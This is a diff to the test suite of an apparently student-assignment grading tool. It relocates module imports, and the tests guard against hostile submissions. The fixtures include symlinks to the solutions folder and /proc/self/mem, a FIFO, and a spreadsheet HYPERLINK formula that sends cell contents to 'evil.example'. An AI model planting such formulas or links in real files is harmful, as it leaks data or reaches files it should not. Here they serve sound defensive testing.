@@ -2,9 +2,9 @@
 
 The unit tests check each rule where it lives: values of exact types
 (:func:`grading.compare.assert_equal`), LMS file names parsed anchored and never as
-another student's (:mod:`grading.lms`), submissions read as untrusted files without
-following a link or opening a FIFO (:mod:`grading.matching`), and CSV cells that a
-spreadsheet would run as formulas (:mod:`grading.gradebook`). The batch test at the end
+another student's (:mod:`grading.classroom.lms`), submissions read as untrusted files without
+following a link or opening a FIFO (:mod:`grading.classroom.matching`), and CSV cells that a
+spreadsheet would run as formulas (:mod:`grading.classroom.gradebook`). The batch test at the end
 grades one class holding every attack at once with the real command.
 """
 
@@ -81,10 +81,10 @@ import shutil  # noqa: E402
 import zipfile  # noqa: E402
 from pathlib import Path  # noqa: E402
 
-from grading import gradebook as gb  # noqa: E402
-from grading import lms  # noqa: E402
+from grading.classroom import gradebook as gb  # noqa: E402
+from grading.classroom import lms  # noqa: E402
 from grading.layout import EXERCISES, SOLUTIONS, discover_chapters  # noqa: E402
-from grading.matching import (list_students, match_folder, read_untrusted, submission_digest,  # noqa: E402
+from grading.classroom.matching import (list_students, match_folder, read_untrusted, submission_digest,  # noqa: E402
                               unpack_zip, walk_untrusted)
 
 STEM = "01_kv_memory"
@@ -180,7 +180,7 @@ def test_a_link_or_fifo_handed_in_as_the_whole_submission_is_not_opened(tmp_path
     (subs / "alice").symlink_to(SOLUTIONS)
     os.mkfifo(subs / "bob.zip")
     (subs / "carol.zip").symlink_to("/proc/self/mem")
-    from grading.batch import open_submission
+    from grading.classroom.grade import open_submission
 
     students, _ = list_students(subs)
     for student, entry in students:
@@ -252,7 +252,7 @@ import sys  # noqa: E402
 
 import nbformat  # noqa: E402
 
-from grading import sandbox  # noqa: E402
+from grading.proc import sandbox  # noqa: E402
 from grading.layout import ROOT  # noqa: E402
 
 FORMULA = '=HYPERLINK("evil.example?"&A1,"open me")'
